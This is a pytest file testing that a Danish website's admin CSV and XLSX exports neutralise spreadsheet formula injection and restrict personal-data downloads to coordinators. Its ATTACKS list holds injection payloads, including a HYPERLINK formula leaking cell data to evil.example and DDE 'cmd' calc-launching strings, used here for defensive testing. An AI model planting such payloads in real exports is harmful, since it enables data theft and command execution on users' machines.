"""Spreadsheets hold what the public typed: no cell may start a formula, CSV opens with Danish letters intact, and
only coordinators download lists that hold personal data (core.exports)."""

import csv
import io

import pytest
from openpyxl import load_workbook
from wagtail.contrib.forms.models import FormSubmission
from wagtail.models import Page

from cms.models import Subscriber
from core.exports import csv_text, neutralise, xlsx_bytes
from devtools.factories.cms import ContactPageFactory
from devtools.factories.core import UserFactory
from devtools.factories.workflows import CohortFactory, MeetingSignupFactory, RegistrationFactory, municipality
from workflows.permissions import Role
from workflows.registration import services

pytestmark = pytest.mark.django_db

ATTACKS = ['=HYPERLINK("https://evil.example/?x="&A1;"Klik")', "@SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "+45+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_text_that_would_start_a_formula_is_written_as_text():
    for attack in ATTACKS:
        assert neutralise(attack) == "'" + attack
    for harmless in ("Ringkøbing-Skjern", "Karen Jensen", "", 12, -3, None):
        assert neutralise(harmless) == harmless


def test_our_csv_and_xlsx_writers_neutralise_every_cell():
    rows = [["Kommune", "Navn"], ["Ringkøbing-Skjern", ATTACKS[0]], [ATTACKS[1], 7]]
    text = csv_text(rows)
    assert text.startswith("\ufeff")
    assert list(csv.reader(io.StringIO(text[1:]), delimiter=";")) == [
        ["Kommune", "Navn"], ["Ringkøbing-Skjern", "'" + ATTACKS[0]], ["'" + ATTACKS[1], "7"]]
    sheet = load_workbook(io.BytesIO(xlsx_bytes(rows))).active
    assert [[cell.data_type for cell in row] for row in sheet.iter_rows()] == [["s", "s"], ["s", "s"], ["s", "n"]]
    assert sheet["B2"].value == "'" + ATTACKS[0]


def _download(client, url):
    response = client.get(url)
    assert response.status_code == 200, url
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return response, body


def _csv_rows(body):
    text = body.decode("utf-8")
    assert text.startswith("\ufeff"), "Excel needs the byte-order mark to read æøå"
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


@pytest.fixture
def public_input():
    """Every admin export that holds what the public typed, with a formula in it."""
    cohort = CohortFactory()
    services.submit(RegistrationFactory.build(
        cohort=cohort, programme=cohort.programme, municipality=municipality("ringkoebing-skjern"),
        contact_name=ATTACKS[0], manager_title=ATTACKS[2],
    ))
    MeetingSignupFactory(name=ATTACKS[1], role=ATTACKS[3])
    Subscriber.objects.create(email="=cmd@example.dk", status=Subscriber.Status.CONFIRMED)
    contact = ContactPageFactory(parent=Page.objects.get(depth=2))
    FormSubmission.objects.create(page=contact, form_data={"navn": ATTACKS[4], "e_mail": "a@example.dk",
                                                           "emne": "Andet", "besked": ATTACKS[5]})
    return {
        "/admin/registration/": ATTACKS[0],
        "/admin/meetingsignup/": ATTACKS[1],
        "/admin/newsletter_subscribers/": "=cmd@example.dk",
        f"/admin/forms/submissions/{contact.pk}/": ATTACKS[4],
    }


def test_every_admin_export_of_public_input_is_neutralised(client, public_input):
    # The newsletter and the contact form are the editors' lists; a coordinator who also edits downloads all four.
    client.force_login(UserFactory(groups=[Role.COORDINATOR, "Editors"]))
    for url, attack in public_input.items():
        _response, body = _download(client, f"{url}?export=csv")
        cells = [cell for row in _csv_rows(body) for cell in row]
        assert "'" + attack in cells and attack not in cells, url
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), url
        if "registration" in url:
            assert "Ringkøbing-Skjern" in cells

        _response, body = _download(client, f"{url}?export=xlsx")
        values = [cell for row in load_workbook(io.BytesIO(body)).active.iter_rows() for cell in row]
        assert not any(cell.data_type == "f" for cell in values), url
        assert "'" + attack in [cell.value for cell in values], url


def test_only_coordinators_download_lists_with_personal_data(client, public_input):
    for groups in ([Role.ADVISER], ["Editors"]):
        client.force_login(UserFactory(groups=groups))
        for url in public_input:
            page = client.get(url)
            if page.status_code == 200:  # may see the list, but not the download buttons
                assert "export=csv" not in page.content.decode(), (groups, url)
            response = client.get(f"{url}?export=csv")
            assert response.status_code in (302, 403), (groups, url)
            assert not response.get("Content-Disposition"), (groups, url)
